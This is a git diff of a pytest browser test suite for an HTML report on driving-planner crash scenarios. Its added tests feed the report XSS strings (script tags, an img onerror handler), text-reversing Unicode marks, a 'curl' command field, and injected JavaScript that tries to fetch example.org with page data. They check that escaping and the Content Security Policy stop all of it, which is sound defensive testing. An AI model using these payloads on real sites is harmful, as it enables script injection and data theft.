@@ -1,6 +1,7 @@
 """The page of the report as people use it: in a browser."""
 
 import json
+import re
 import shutil
 from dataclasses import replace
 
@@ -19,7 +20,9 @@ pytestmark = pytest.mark.skipif(BROWSER is None, reason="no Chromium on PATH: ap
 
 EMPTY = "\N{EN DASH}"
 LAPTOP, PHONE = {"width": 1440, "height": 900}, {"width": 390, "height": 844}
-HARMFUL = """<|script><script>window.hurt = 1<|script><img src=x onerror="window.hurt = 1"> & 'ü' #t=3"""
+HARMFUL = """<script>window.hurt = 1<img src=x onerror="window.hurt = 1"> & 'ü' #t=3"""  # as an id, so without a slash
+TURNED = "\u202emi\u2066"  # marks that turn the direction of writing around
+EVERYWHERE = HARMFUL + "</script></style></title>\u2028" + TURNED
 CASES = load_cases(shipped("scenarios") / "quickstart")
 CRASHES = [case for case in CASES if case.attack and case.attack.collision]
 
@@ -50,12 +53,12 @@ CONTRAST = """() => {
 }"""
 
 
-def judged(case, avoidable):
-    """With a verdict, and a way out that simply stays before the attack."""
+def judged(case, number):
+    """With a verdict: every other crash could be avoided by a way that simply stays before the attack."""
+    avoidable, blamed = number % 2 == 0, ("ego", "adversary", "nobody")[number % 3]
     gentlest = Manoeuvre(5, -2.0, None, 0.3, 0.5, 0.3) if avoidable else None
-    verdict = Judgement(
-        (), Avoidability(avoidable, 40, 4 * avoidable, 8 if avoidable else None, gentlest), Fault("ego", "rule", "why")
-    )
+    onset = case.attack.collision.step - 2 if avoidable else None
+    verdict = Judgement((), Avoidability(avoidable, 40, 4 * avoidable, onset, gentlest), Fault(blamed, "rule", "why"))
     way = Tracks(*(getattr(case.original, name)[:1] for name in ("x", "y", "yaw", "speed", "valid")))
     return replace(case, judgement=verdict, evasion=way if avoidable else None)
 
@@ -88,7 +91,7 @@ def browser():
 def files(tmp_path_factory):
     """One report of a suite, one that compares two planners."""
     folder = tmp_path_factory.mktemp("report")
-    cases = [judged(case, k % 2 == 0) if case in CRASHES else case for k, case in enumerate(CASES)]
+    cases = [judged(case, CRASHES.index(case)) if case in CRASHES else case for case in CASES]
     cases[0] = replace(cases[0], id=HARMFUL)
     cases[1] = replace(cases[1], attack=replace(cases[1].attack, planner="mine"))
     (folder / "suite.html").write_text(html_page(report_of(cases, {})), "utf-8")
@@ -98,7 +101,29 @@ def files(tmp_path_factory):
         "new": [driven(c, k > 0) for k, c in enumerate(some)],
     }
     (folder / "pair.html").write_text(html_page(report_of(some, pair)), "utf-8")
+    (folder / "hostile.html").write_text(html_page(report_of([hostile(CRASHES[0])], {})), "utf-8")
+    long = {f"company.planners.of_last_year:{name}": drives for name, drives in pair.items()}
+    (folder / "long.html").write_text(html_page(report_of(some, long)), "utf-8")
     return folder
+
+
+def hostile(case):
+    """Whatever may be text is an attack on who reads it."""
+    agents = tuple(replace(agent, id=f"{k:02}{HARMFUL}{TURNED}") for k, agent in enumerate(case.agents))
+    names = {old.id: new.id for old, new in zip(case.agents, agents, strict=True)}
+    hit = replace(case.attack.collision, agent=names[case.attack.collision.agent])
+    attack = replace(
+        case.attack,
+        planner=f"exec:{EVERYWHERE}",
+        method=EVERYWHERE,
+        candidates=(EVERYWHERE,),
+        settings={EVERYWHERE: EVERYWHERE},
+        collision=hit,
+        cost_history={EVERYWHERE: (1.0, 2.0)},
+    )
+    source = replace(case.provenance, file=EVERYWHERE, command=f"curl {EVERYWHERE}", versions={EVERYWHERE: EVERYWHERE})
+    verdict = Judgement((EVERYWHERE,), Avoidability(False, 40, 0, None, None), Fault("ego", EVERYWHERE, EVERYWHERE))
+    return replace(case, agents=agents, attack=attack, provenance=source, judgement=verdict, id=HARMFUL + TURNED)
 
 
 class Visit:
@@ -108,7 +133,8 @@ class Visit:
         self.context = browser.new_context(**({"viewport": LAPTOP} | context))
         self.page = self.context.new_page()
         self.page.set_default_timeout(30_000)
-        self.requests, self.complaints = [], []
+        self.requests, self.failed, self.complaints = [], [], []
+        self.page.on("requestfailed", lambda request: self.failed.append(request.url))
         self.page.on("request", lambda request: self.requests.append(request.url))
         self.page.on("console", lambda message: self.complaints.append(message.text))
         self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
@@ -178,7 +204,10 @@ def test_sorting(visit):
     assert [float(text.split()[0]) for text in seen.column("Impact") if text != EMPTY] == impacts[::-1]
     assert seen.column("Impact")[-1] == EMPTY  # without a crash there is none
     head.click()
-    assert head.locator("..").get_attribute("aria-sort") is None
+    assert head.locator("..").get_attribute("aria-sort") == "none"
+    seen.page.select_option("#sort", "Impact")
+    assert [float(text.split()[0]) for text in seen.column("Impact") if text != EMPTY] == impacts
+    assert head.locator("..").get_attribute("aria-sort") == "descending"
 
 
 def test_filtering(visit):
@@ -191,8 +220,13 @@ def test_filtering(visit):
     assert set(seen.column("Result")) == {kind}
     seen.page.select_option("#filter-kind", "")
     seen.page.select_option("#filter-avoidable", "avoidable")
-    assert set(seen.column("Avoidable")) == {"avoidable"}
+    assert set(seen.column("Avoidable")) <= {"in time", "not in time"}
+    seen.page.select_option("#filter-avoidable", "avoidable in time")
+    assert set(seen.column("Avoidable")) == {"in time"}
     seen.page.select_option("#filter-avoidable", "")
+    seen.page.select_option("#filter-fault", "planner at fault")
+    assert set(seen.column("At fault")) == {"planner"}
+    seen.page.select_option("#filter-fault", "")
     seen.page.select_option("#filter-planner", "mine")
     assert seen.names() == [CASES[1].id]
     seen.page.select_option("#filter-planner", "")
@@ -300,6 +334,87 @@ def test_the_keyboard_alone_suffices(visit):
     page.keyboard.press("Escape")
     page.wait_for_selector("#overview:not([hidden])")
     assert page.evaluate("document.activeElement.textContent") == names[1]
+
+
+CLIPPED = """() => [...document.querySelectorAll(
+    "html, table, td, th, section, figure, figcaption, .scroll, .change, .kind, dd, dt, p, li, button, h1, h2, pre"
+  )].filter((node) => node.checkVisibility() && !node.closest(".hidden") && getComputedStyle(node).display !== "inline")
+  .filter((node) => node.scrollWidth > node.clientWidth + 1)
+  .map((node) => [node.tagName, node.className, node.scrollWidth, node.clientWidth, node.textContent.slice(0, 60)])"""
+
+
+@pytest.mark.parametrize("name", ["suite", "pair", "long", "hostile"])
+def test_nothing_is_clipped_and_nothing_scrolls_sideways(visit, name):
+    seen = visit(name)
+    for opens in (lambda: None, lambda: (seen.open_first(), seen.page.click("#settings-fold summary"))):
+        opens()
+        for width in (1280, 1024, 768, 390):
+            seen.page.set_viewport_size({"width": width, "height": 900})
+            assert seen.page.evaluate(CLIPPED) == [], width
+            assert seen.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, width
+        seen.page.set_viewport_size(LAPTOP)
+
+
+def test_what_to_fix_comes_first(visit):
+    """The planner's fault that it could have avoided in time, at the top of the summary and of the list."""
+    seen = visit()
+    page = seen.page
+    blame, escape = seen.column("At fault"), seen.column("Avoidable")
+    order = {"planner": 0, "both": 0, "unclear": 1, EMPTY: 1, "adversary": 2}
+    urgency = [(order[a], b != "in time") for a, b in zip(blame, escape, strict=True)][: len(CRASHES)]
+    assert urgency == sorted(urgency)
+    assert (blame[0], escape[0]) == ("planner", "in time")
+    first = page.locator(".todo li").first
+    assert "planner at fault" in first.inner_text()
+    assert re.search(r"\d cases?, [1-9]\d* avoidable in time", first.inner_text())
+    assert first.locator("[data-case]").inner_text() == seen.names()[0]
+    count = int(first.locator("button").inner_text().split()[0])
+    first.locator("button").click()
+    assert len(seen.names()) == count
+    assert set(seen.column("At fault")) == {"planner"}
+    first.locator("[data-case]").click()
+    page.wait_for_selector("#case:not([hidden])")
+
+
+def test_what_got_worse_is_to_be_fixed_first(visit):
+    seen = visit("pair")
+    tags = [item.locator(".tag").count() for item in seen.page.locator(".todo li").all()]
+    assert tags == sorted(tags, reverse=True)
+    assert sum(tags) >= 1
+    [broken] = [name for name, change in zip(seen.names(), seen.column("Change"), strict=True) if change == "broken"]
+    assert seen.page.locator(".todo li").first.locator("[data-case]").inner_text() == broken
+
+
+def test_no_text_of_a_case_becomes_part_of_the_page(visit):
+    seen = visit("hostile")
+    page = seen.page
+    page.wait_for_selector("#cases tbody tr")
+    counts = [page.locator(tag).count() for tag in ("img", "style", "script:not([type])", "iframe, object, embed")]
+    assert counts == [0, 1, 1, 0]
+    seen.open_first()
+    page.click("#settings-fold summary")
+    assert page.locator("img").count() == 0
+    text = page.evaluate("document.documentElement.textContent + document.title")
+    assert not set(text) & set("\u2028\u202e\u2066")
+    assert "\\u202emi\\u2066" in page.inner_text("#case-title")
+    assert page.locator("#commands button").count() == 0  # nothing that a file says is handed out to be run
+
+
+@pytest.mark.parametrize("harm", [
+    "document.body.insertAdjacentHTML('beforeend', '<p onclick=\"window.hurt = 1\"></p>');"
+    "document.body.lastChild.click()",
+    "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hurt = 1'}))",
+    "document.body.append(Object.assign(document.createElement('img'), {src: 'https://example.org/secret'}))",
+    "fetch('https://example.org/' + document.title).catch(() => 0)",
+])  # fmt: skip
+def test_the_page_s_own_policy_lets_nothing_else_run_or_leave(visit, harm):
+    seen = visit()
+    seen.page.evaluate(f"() => {{ {harm} }}")
+    seen.page.wait_for_timeout(50)
+    assert "Content Security Policy" in seen.complaints[0]
+    assert seen.failed == [url for url in seen.requests if "example.org" in url]
+    seen.complaints.clear()
+    seen.requests.clear()
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
